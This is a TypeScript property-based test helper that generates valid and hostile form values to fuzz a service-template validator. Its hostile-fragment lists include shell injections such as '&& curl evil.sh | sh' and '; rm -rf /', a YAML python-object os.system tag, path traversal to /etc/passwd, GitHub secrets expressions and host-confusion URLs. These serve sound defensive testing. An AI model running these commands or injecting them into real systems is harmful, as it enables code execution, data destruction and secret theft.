import fc from 'fast-check';
import { SEED_VALUES } from '../../support/rendered';

/** Every field of the template's form, in form order. */
export const FIELDS = [
  'component_id',
  'description',
  'owner',
  'environment',
  'replicas',
  'storageSize',
  'storageClass',
  'mountPath',
  'port',
  'repoUrl',
] as const;
export type Field = (typeof FIELDS)[number];

/** The name each field has as a `goldenpath:stateful:validate` input (repoUrl is checked by the create step). */
export const VALIDATE_INPUT_NAME: Record<string, Field> = {
  name: 'component_id',
  component_id: 'component_id',
  description: 'description',
  owner: 'owner',
  environment: 'environment',
  replicas: 'replicas',
  storageSize: 'storageSize',
  storageClass: 'storageClass',
  mountPath: 'mountPath',
  port: 'port',
  repoUrl: 'repoUrl',
};

/**
 * What one case changes in SEED_VALUES: field → new value. A field set to
 * `undefined` is left out of the form values altogether.
 */
export type Changes = Partial<Record<Field, unknown>>;

export function applyChanges(changes: Changes): Record<string, unknown> {
  const values: Record<string, unknown> = { ...SEED_VALUES };
  for (const [field, value] of Object.entries(changes)) {
    if (value === undefined) delete values[field];
    else values[field] = value;
  }
  return values;
}

// ---------------------------------------------------------------------------
// Hostile text
// ---------------------------------------------------------------------------

/**
 * Pieces of text that break YAML, Nunjucks, GitHub expressions, shells, paths
 * or readers, as listed in issue 6. Strings are built by joining several.
 */
export const HOSTILE_FRAGMENTS = [
  // quotes, escapes, YAML indicators
  '"',
  "'",
  '\\',
  '\\"',
  "\\'",
  ':',
  ': ',
  ' #',
  '#',
  '# not a comment',
  ',',
  '[',
  ']',
  '{',
  '}',
  '|',
  '|-',
  '>-',
  '|+',
  '%',
  '@',
  '`',
  '!',
  '&',
  '*',
  '?',
  '~',
  '=',
  // structure at the start of a line
  '- ',
  '? ',
  '\n- ',
  '\n? ',
  '\n  - item',
  '\nkey: value',
  '\nspec: {owner: evil}',
  '\n  owner: evil',
  '\nmetadata:\n  name: evil',
  // anchors, aliases, tags, directives
  '&a',
  '&a ',
  '*a',
  '<<: *a',
  '!!python/object:os.system',
  '!!python/object/apply:os.system ["id"]',
  '!!binary',
  '!!str',
  '!<tag:yaml.org,2002:str>',
  '%YAML 1.1',
  '%TAG ! tag:evil,2000:',
  // document markers
  '---',
  '...',
  '\n---\n',
  '\n...\n',
  '--- !!map',
  '---\nkind: Secret',
  // line breaks and blanks
  '\n',
  '\r',
  '\r\n',
  '\t',
  ' ',
  '  ',
  '\u2028',
  '\u2029',
  '\u0085',
  '\u000b',
  '\u000c',
  // invisible and bidirectional characters
  '\u200b',
  '\u200c',
  '\u200d',
  '\u2060',
  '\ufeff',
  '\u202e',
  '\u202d',
  '\u2066',
  '\u2067',
  '\u2069',
  '\u061c',
  '\u200f',
  '\u00a0',
  // Nunjucks and GitHub expressions
  '{{ values.name }}',
  '{{ 7*7 }}',
  '{% if true %}x{% endif %}',
  '{% raw %}',
  '{% endraw %}',
  '{#',
  '#}',
  '{%- set x = 1 -%}',
  '${{ secrets.AWS_KEY }}',
  '${{ github.token }}',
  '${{ parameters.owner }}',
  '${{ steps.validate.output.name }}',
  '${{',
  '}}',
  '${{ inputs.environment }}',
  // shell
  '$(id)',
  '`id`',
  '; rm -rf /',
  '&& curl evil.sh | sh',
  '>',
  '<',
  '$HOME',
  '${IFS}',
  '\\$',
  '\\\n',
  // paths
  '../',
  '../../etc/passwd',
  '..',
  '/',
  '//',
  './',
  '..\\..\\',
  '%2e%2e%2f',
  'C:\\',
  '~/.ssh',
  // control characters (NUL, ESC, DEL, C1)
  '\u0000',
  '\u0001',
  '\u001b[31m',
  '\u007f',
  '\u009b',
  // Unicode odds and ends, lone surrogates included
  '\ud800',
  '\udfff',
  '😀',
  'é',
  'e\u0301',
  '中文',
  'ﬁ',
  'İ',
  'ǅ',
  // scalars that YAML 1.1 or 1.2 read as something other than a string
  'true',
  'false',
  'null',
  'Null',
  'yes',
  'no',
  'on',
  'off',
  'y',
  'n',
  '0x1F',
  '0o17',
  '012',
  '1e3',
  '1_000',
  '1:30',
  '.inf',
  '.nan',
  '-',
  '0',
  '-1',
  // near-miss values
  'group:default/x',
  'component:default/x',
  'github.com?owner=a&repo=b',
  '10GB',
  '/data',
];

const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f]/;
const LONE_SURROGATE = /[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/;

/** Fragments a description may contain and still be accepted (no control characters except newline and tab). */
export const DESCRIPTION_FRAGMENTS = HOSTILE_FRAGMENTS.filter(f => !CONTROL.test(f) && !LONE_SURROGATE.test(f));

function textOf(fragments: readonly string[], maxPieces: number): fc.Arbitrary<string> {
  return fc
    .array(
      fc.oneof(
        { weight: 5, arbitrary: fc.constantFrom(...fragments) },
        { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 6 }) },
        { weight: 1, arbitrary: fc.string({ unit: 'grapheme-ascii', maxLength: 8 }) },
      ),
      { minLength: 1, maxLength: maxPieces },
    )
    .map(parts => parts.join(''));
}

/** Any hostile text: fragments mixed with arbitrary (also invalid UTF-16) strings. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 6, arbitrary: textOf(HOSTILE_FRAGMENTS, 8) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 12 }) },
  // very long strings: just over and far over the limits
  {
    weight: 1,
    arbitrary: fc
      .tuple(
        fc.constantFrom('x', 'ab', '"', '\\', '\n- ', '😀', '\u2028', '${{ secrets.X }}'),
        fc.integer({ min: 100, max: 4000 }),
      )
      .map(([piece, length]) => piece.repeat(Math.ceil(length / piece.length))),
  },
);

/** Values of the wrong JSON type (undefined leaves the field out). */
const wrongType: fc.Arbitrary<unknown> = fc.oneof(
  fc.constant(undefined),
  fc.constant(null),
  fc.boolean(),
  fc.integer(),
  fc.double(),
  fc.constant(''),
  fc.array(fc.string({ maxLength: 4 }), { maxLength: 2 }),
  fc.dictionary(fc.string({ maxLength: 4 }), fc.string({ maxLength: 4 }), { maxKeys: 2 }),
);

/** A valid value with hostile text before, after or inside it. */
function nearValid(valid: fc.Arbitrary<string>): fc.Arbitrary<string> {
  return fc.tuple(valid, textOf(HOSTILE_FRAGMENTS, 3), fc.nat()).map(([v, h, at]) => {
    const i = at % (v.length + 1);
    return v.slice(0, i) + h + v.slice(i);
  });
}

// ---------------------------------------------------------------------------
// Valid values, field by field (valid for the form; the rules may still refuse some)
// ---------------------------------------------------------------------------

/** DNS-label names, plus the valid names YAML reads as booleans, nulls or numbers. */
const validName = fc.oneof(
  { weight: 4, arbitrary: fc.stringMatching(/^[a-z]([-a-z0-9]{0,12}[a-z0-9])?$/) },
  { weight: 1, arbitrary: fc.stringMatching(/^[a-z][-a-z0-9]{38,50}[a-z0-9]$/) },
  {
    weight: 2,
    arbitrary: fc.constantFrom(
      'my-redis',
      'a',
      'x'.repeat(52),
      'a--b',
      'true',
      'false',
      'null',
      'yes',
      'no',
      'on',
      'off',
      'y',
      'n',
      'e5',
      'inf',
      'nan',
      'x0',
    ),
  },
);

const validDescription = fc.oneof(
  { weight: 3, arbitrary: textOf(DESCRIPTION_FRAGMENTS, 10) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 120 }).filter(s => !CONTROL.test(s)) },
  {
    weight: 1,
    arbitrary: fc.constantFrom(
      '',
      'Session cache for the user service',
      'Cache: "fast" # really\n---\nspec: {owner: evil}\n- ${{ secrets.AWS_KEY }} {{ x }} {% raw %}\u2028&a *a !!binary',
      'x'.repeat(500),
      '😀'.repeat(250),
    ),
  },
);

const dnsLabel = fc.stringMatching(/^[a-z0-9]([-a-z0-9]{0,10}[a-z0-9])?$/);
const objectName = fc.stringMatching(/^[A-Za-z0-9]([-A-Za-z0-9_.]{0,20}[A-Za-z0-9])?$/);
const validOwner = fc
  .tuple(fc.constantFrom('', 'group:', 'user:', 'Group:', 'USER:'), fc.option(dnsLabel, { nil: undefined }), objectName)
  .map(([kind, namespace, name]) => `${kind}${namespace === undefined ? '' : `${namespace}/`}${name}`);

const validStorageSize = fc.oneof(
  fc.integer({ min: 1, max: 16384 }).map(n => `${n}Gi`),
  fc.integer({ min: 1, max: 16 }).map(n => `${n}Ti`),
  fc.integer({ min: 1024, max: 200000 }).map(n => `${n}Mi`),
  fc.integer({ min: 2, max: 17000 }).map(n => `${n}G`),
  fc.integer({ min: 1, max: 17 }).map(n => `${n}T`),
  fc.integer({ min: 1100, max: 90000 }).map(n => `${n}M`),
  fc
    .tuple(fc.integer({ min: 1, max: 15 }), fc.constantFrom('5', '25', '125', '0', '00', '75'))
    .map(([n, f]) => `${n}.${f}Ti`),
  fc.tuple(fc.integer({ min: 1, max: 999 }), fc.constantFrom('5', '25', '0', '1', '3')).map(([n, f]) => `${n}.${f}Gi`),
);

const pathSegment = fc.stringMatching(/^[A-Za-z0-9._-]{1,12}$/);
const validMountPath = fc
  .tuple(
    fc.array(pathSegment, { minLength: 1, maxLength: 5 }),
    fc.constantFrom('', '/', '//'),
    fc.constantFrom('/', '//', '/./'),
  )
  .map(([segments, trailing, separator]) => `/${segments.join(separator)}${trailing}`);

const githubOwner = fc.stringMatching(/^[A-Za-z0-9]([A-Za-z0-9-]{0,12}[A-Za-z0-9])?$/);
const githubRepo = fc.stringMatching(/^[A-Za-z0-9._-]{1,30}$/);
const validRepoUrl = fc
  .tuple(fc.constantFrom('github.com', 'GitHub.com'), githubOwner, githubRepo, fc.boolean())
  .map(([host, owner, repo, swap]) =>
    swap ? `${host}?repo=${repo}&owner=${owner}` : `${host}?owner=${owner}&repo=${repo}`,
  );

export const VALID: Record<Field, fc.Arbitrary<unknown>> = {
  component_id: validName,
  description: validDescription,
  owner: validOwner,
  environment: fc.constantFrom('dev', 'test', 'staging', 'prod'),
  replicas: fc.integer({ min: 1, max: 9 }),
  storageSize: validStorageSize,
  storageClass: fc.constant('gp3'),
  mountPath: validMountPath,
  port: fc.integer({ min: 1024, max: 65535 }),
  repoUrl: validRepoUrl,
};

// ---------------------------------------------------------------------------
// Hostile values, field by field
// ---------------------------------------------------------------------------

const hostileString = (valid: fc.Arbitrary<string>, specials: string[]) =>
  fc.oneof(
    { weight: 3, arbitrary: hostileText },
    { weight: 3, arbitrary: nearValid(valid) },
    { weight: 2, arbitrary: fc.constantFrom(...specials) },
    { weight: 1, arbitrary: wrongType },
  );

const hostileNumber = (valid: fc.Arbitrary<number>, specials: unknown[]) =>
  fc.oneof(
    fc.integer(),
    fc.integer({ min: -10, max: 70000 }),
    fc.double(),
    valid.map(n => String(n)),
    valid.map(n => n + 0.5),
    fc.constantFrom(...specials),
    hostileText,
    wrongType,
  );

export const HOSTILE: Record<Field, fc.Arbitrary<unknown>> = {
  component_id: hostileString(validName, [
    'My-App',
    'my_app',
    'my.app',
    '-app',
    'app-',
    '1app',
    'x'.repeat(53),
    'app\n',
    ' app',
    'app ',
    '../app',
    'app/../x',
    '${{ secrets.X }}',
    'a{{x}}',
  ]),
  description: fc.oneof(
    {
      weight: 3,
      arbitrary: hostileString(validDescription, [
        'x'.repeat(501),
        'a\u0000b',
        'a\rb',
        'a\u001bb',
        'a\ud800b',
        'line\r\nbreak',
      ]),
    },
    {
      weight: 2,
      arbitrary: textOf(
        HOSTILE_FRAGMENTS.filter(f => CONTROL.test(f) || LONE_SURROGATE.test(f)),
        4,
      ).chain(bad => nearValid(fc.constant(bad))),
    },
    { weight: 1, arbitrary: textOf(DESCRIPTION_FRAGMENTS, 20) },
  ),
  owner: fc.oneof(
    hostileString(validOwner, [
      'group:default/x\nspec: {type: evil}',
      'group:default/x\n  system: evil',
      'group:default/x"\nlifecycle: "evil',
      'component:default/x',
      'group:default/',
      ':/',
      'group:default/x/y',
      'group:Default/x',
      'group:default/' + 'x'.repeat(64),
      'group:default/x ',
    ]),
    fc.tuple(validOwner, textOf(HOSTILE_FRAGMENTS, 3)).map(([o, h]) => `${o}\n${h}`),
  ),
  environment: hostileString(fc.constantFrom('dev', 'test', 'staging', 'prod'), [
    'Dev',
    'dev ',
    'prod\n',
    'dev\u200b',
    'qa',
    'production',
    "dev' }}${{ secrets.X",
    '',
  ]),
  replicas: hostileNumber(fc.integer({ min: 1, max: 9 }), [0, 10, -1, 1.5, '3', 1e21, 2 ** 53, -0]),
  storageSize: hostileString(validStorageSize, [
    '10GB',
    '10gi',
    '10',
    '0Gi',
    '0.5Gi',
    '500Mi',
    '17Ti',
    '1e3Gi',
    '+10Gi',
    ' 10Gi',
    '10Gi\n',
    '1.3Gi',
    'Gi',
    '10Gi # x',
    '10Gi\nfoo: bar',
    '9'.repeat(40) + 'Gi',
  ]),
  storageClass: hostileString(fc.constant('gp3'), ['gp2', 'GP3', 'gp3 ', 'gp3\n', 'io2', '']),
  mountPath: hostileString(validMountPath, [
    '/',
    '//',
    '/etc',
    '/etc/x',
    '/tmp',
    '/app',
    '/data/../etc',
    '../data',
    'data',
    '/data:rw',
    '/data dir',
    '/data;rm -rf /',
    '/da\nta',
    '/data/${{ secrets.X }}',
    '/./..',
    '/' + 'd'.repeat(300),
  ]),
  port: hostileNumber(fc.integer({ min: 1024, max: 65535 }), [80, 1023, 65536, 0, -1, 6379.5, '6379', 1e21, 2 ** 53]),
  repoUrl: fc.oneof(
    hostileString(validRepoUrl, [
      '',
      'github.com',
      'github.com?owner=a',
      'github.com?repo=b',
      'evil.com?owner=a&repo=b',
      'github.com@evil.com?owner=a&repo=b',
      'github.com:443?owner=a&repo=b',
      'github.com/../../etc?owner=a&repo=b',
      'github.com?owner=a&repo=../../x',
      'github.com?owner=a&repo=..%2F..%2Fx',
      'github.com?owner=..&repo=..',
      'github.com?owner=a&repo=b.git',
      'github.com?owner=a&repo=b&owner=c',
      'github.com?owner=a%0Aspec:%20x&repo=b',
      'github.com?owner=a&repo=b%22%0A-%20x',
      'file:///etc/passwd',
      'https://github.com/a/b',
    ]),
    fc
      .tuple(fc.oneof(githubOwner, hostileText), fc.oneof(githubRepo, hostileText), fc.boolean())
      .map(([owner, repo, encode]) =>
        encode
          ? `github.com?owner=${percentEncode(owner)}&repo=${percentEncode(repo)}`
          : `github.com?owner=${owner}&repo=${repo}`,
      ),
  ),
};

/** encodeURIComponent, with lone surrogates (which it refuses) sent as U+FFFD. */
function percentEncode(text: string): string {
  return encodeURIComponent(text.replace(new RegExp(LONE_SURROGATE.source, 'g'), '\ufffd'));
}

// ---------------------------------------------------------------------------
// Cases
// ---------------------------------------------------------------------------

const KEEP = Symbol('keep');

/**
 * Most hostile descriptions are legitimately accepted (any text up to 500
 * characters is), so the description gets more hostile draws to reach its
 * rejected branch about as often as the other fields reach theirs.
 */
const HOSTILE_BOOST: Partial<Record<Field, number>> = { description: 3 };

/**
 * One case: a few fields of SEED_VALUES replaced, each by a valid or a
 * hostile value. Shrinking goes towards changing fewer fields and towards
 * valid values, so a counterexample names the smallest change that breaks.
 */
export function casesArbitrary(weights: { keep: number; valid: number; hostile: number }): fc.Arbitrary<Changes> {
  const perField = Object.fromEntries(
    FIELDS.map(field => [
      field,
      fc.oneof(
        { withCrossShrink: true },
        { weight: weights.keep, arbitrary: fc.constant<unknown>(KEEP) },
        { weight: weights.valid, arbitrary: VALID[field] },
        { weight: weights.hostile * (HOSTILE_BOOST[field] ?? 1), arbitrary: HOSTILE[field] },
      ),
    ]),
  ) as Record<Field, fc.Arbitrary<unknown>>;
  return fc
    .record(perField)
    .map(record => Object.fromEntries(Object.entries(record).filter(([, v]) => v !== KEEP)) as Changes);
}

/** Few fields changed, hostile values often: the default case mix of properties 1 and 2. */
export const fewFieldCases = casesArbitrary({ keep: 10, valid: 2, hostile: 1 });

/** Many fields changed at once, mostly to valid values: property 3 looks at how values combine. */
export const manyFieldCases = casesArbitrary({ keep: 6, valid: 4, hostile: 1 });

export function changedFields(changes: Changes): Field[] {
  return FIELDS.filter(f => f in changes);
}
